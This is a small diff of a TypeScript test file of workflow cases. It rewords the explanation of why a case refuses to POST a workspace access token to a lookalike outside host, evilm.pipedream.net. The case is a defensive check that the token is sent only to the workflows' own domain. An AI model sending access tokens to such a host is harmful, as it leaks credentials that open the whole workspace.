@@ -51,7 +51,7 @@ export const workflowCases: readonly Case[] = [
         workflows.invoke({ endpoint: 'https://evilm.pipedream.net/x', auth: 'oauth' }),
       differs: {
         because:
-          "The access token opens the whole workspace: it is sent only to hosts below the workflows' domain.",
+          "The access token gives access to the whole workspace: it is sent only to hosts below the workflows' domain.",
         facts: refused('POST https://evilm.pipedream.net/x, with the access token'),
       },
     },
